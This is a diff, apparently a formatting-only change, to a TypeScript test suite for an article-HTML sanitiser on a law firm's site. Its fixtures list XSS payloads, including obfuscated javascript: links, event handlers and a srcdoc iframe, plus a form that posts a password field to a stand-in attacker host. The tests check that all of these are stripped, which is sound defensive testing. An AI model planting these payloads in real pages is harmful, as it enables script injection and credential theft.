@@ -6,14 +6,48 @@ const options: SanitiseOptions = { assetHosts: ['*.graphassets.com'], siteUrl: '
 const clean = (html: string) => sanitiseArticleHtml(html, options);
 
 const ALLOWED: Record<string, string[]> = {
-  h2: [], h3: [], h4: [], h5: [], h6: [], p: [], br: [], hr: [], ul: [], ol: ['start', 'reversed'], li: [],
-  a: ['href', 'title', 'target', 'rel'], strong: [], em: [], b: [], i: [], u: [], s: [], sub: [], sup: [], mark: [],
-  blockquote: [], figure: [], figcaption: [], img: ['src', 'alt', 'width', 'height', 'loading', 'decoding'],
-  table: ['tabindex'], thead: [], tbody: [], tr: [], th: ['colspan', 'rowspan', 'scope'], td: ['colspan', 'rowspan'], caption: [],
-  code: [], pre: [],
+  h2: [],
+  h3: [],
+  h4: [],
+  h5: [],
+  h6: [],
+  p: [],
+  br: [],
+  hr: [],
+  ul: [],
+  ol: ['start', 'reversed'],
+  li: [],
+  a: ['href', 'title', 'target', 'rel'],
+  strong: [],
+  em: [],
+  b: [],
+  i: [],
+  u: [],
+  s: [],
+  sub: [],
+  sup: [],
+  mark: [],
+  blockquote: [],
+  figure: [],
+  figcaption: [],
+  img: ['src', 'alt', 'width', 'height', 'loading', 'decoding'],
+  table: ['tabindex'],
+  thead: [],
+  tbody: [],
+  tr: [],
+  th: ['colspan', 'rowspan', 'scope'],
+  td: ['colspan', 'rowspan'],
+  caption: [],
+  code: [],
+  pre: [],
 };
 const decode = (value: string) =>
-  value.replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&#x27;|&#39;/g, "'").replace(/&amp;/g, '&');
+  value
+    .replace(/&quot;/g, '"')
+    .replace(/&lt;/g, '<')
+    .replace(/&gt;/g, '>')
+    .replace(/&#x27;|&#39;/g, "'")
+    .replace(/&amp;/g, '&');
 
 /**
  * The invariant every output must satisfy. sanitize-html escapes `<` in text,
@@ -49,7 +83,10 @@ const hostile: Array<[name: string, html: string]> = [
   ['event handler with odd spacing', '<p/onclick=alert(1)>x</p>'],
   ['javascript link', '<a href="javascript:alert(1)">x</a>'],
   ['mixed-case javascript with entity colon', '<a href="JaVaScRiPt&colon;alert(1)">x</a>'],
-  ['numeric entity javascript', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
+  [
+    'numeric entity javascript',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  ],
   ['hex entity javascript', '<a href="&#x6A;avascript:alert(1)">x</a>'],
   ['tab inside javascript', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
   ['newline inside javascript', '<a href="java\nscript:alert(1)">x</a>'],
@@ -70,7 +107,10 @@ const hostile: Array<[name: string, html: string]> = [
   ['srcdoc iframe', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
   ['object', '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>'],
   ['embed', '<embed src="https://evil.example/x.swf">'],
-  ['form and input', '<form action="https://evil.example/collect" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>'],
+  [
+    'form and input',
+    '<form action="https://evil.example/collect" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
+  ],
   ['textarea and select', '<textarea>t</textarea><select><option>o</option></select>'],
   ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
   ['base href', '<base href="https://evil.example/">'],
@@ -115,7 +155,12 @@ describe('sanitising article HTML', () => {
   });
 
   it('removes javascript: and data: links but keeps the link text', () => {
-    for (const href of ['javascript:alert(1)', 'JaVaScRiPt&colon;alert(1)', '&#x6A;avascript:alert(1)', 'data:text/html,x']) {
+    for (const href of [
+      'javascript:alert(1)',
+      'JaVaScRiPt&colon;alert(1)',
+      '&#x6A;avascript:alert(1)',
+      'data:text/html,x',
+    ]) {
       expect(clean(`<a href="${href}">Read</a>`)).toBe('<a>Read</a>');
     }
   });
@@ -136,17 +181,27 @@ describe('sanitising article HTML', () => {
     expect(clean('<img src="https://eu-west-2.graphassets.com/abc/def" alt="Chart" width="800" height="450">')).toBe(
       '<img src="https://eu-west-2.graphassets.com/abc/def" alt="Chart" width="800" height="450" loading="lazy" decoding="async" />',
     );
-    expect(clean('<img src="/images/articles/x.svg">')).toBe('<img src="/images/articles/x.svg" alt="" loading="lazy" decoding="async" />');
+    expect(clean('<img src="/images/articles/x.svg">')).toBe(
+      '<img src="/images/articles/x.svg" alt="" loading="lazy" decoding="async" />',
+    );
   });
 
   it('removes images from any other source', () => {
-    for (const src of ['https://evil.example/x.png', '//evil.example/x.png', 'http://media.graphassets.com/x', 'x.png', 'data:image/png;base64,AAAA']) {
+    for (const src of [
+      'https://evil.example/x.png',
+      '//evil.example/x.png',
+      'http://media.graphassets.com/x',
+      'x.png',
+      'data:image/png;base64,AAAA',
+    ]) {
       expect(clean(`<p>a<img src="${src}" alt="x">b</p>`)).toBe('<p>ab</p>');
     }
   });
 
   it('drops non-numeric image dimensions', () => {
-    expect(clean('<img src="/a.svg" width="100%" height="50">')).toBe('<img src="/a.svg" alt="" height="50" loading="lazy" decoding="async" />');
+    expect(clean('<img src="/a.svg" width="100%" height="50">')).toBe(
+      '<img src="/a.svg" alt="" height="50" loading="lazy" decoding="async" />',
+    );
   });
 
   it('opens external links in a new tab without giving it access to the page', () => {
@@ -157,8 +212,12 @@ describe('sanitising article HTML', () => {
 
   it('keeps internal, same-origin, mailto and tel links in the same tab', () => {
     expect(clean('<a href="/contact-us" target="_blank">Contact</a>')).toBe('<a href="/contact-us">Contact</a>');
-    expect(clean('<a href="https://www.mnoadvocates.co.ke/insights">All</a>')).toBe('<a href="https://www.mnoadvocates.co.ke/insights">All</a>');
-    expect(clean('<a href="mailto:info@mnoadvocates.co.ke">Mail</a>')).toBe('<a href="mailto:info@mnoadvocates.co.ke">Mail</a>');
+    expect(clean('<a href="https://www.mnoadvocates.co.ke/insights">All</a>')).toBe(
+      '<a href="https://www.mnoadvocates.co.ke/insights">All</a>',
+    );
+    expect(clean('<a href="mailto:info@mnoadvocates.co.ke">Mail</a>')).toBe(
+      '<a href="mailto:info@mnoadvocates.co.ke">Mail</a>',
+    );
     expect(clean('<a href="tel:+254722514380">Call</a>')).toBe('<a href="tel:+254722514380">Call</a>');
   });
 
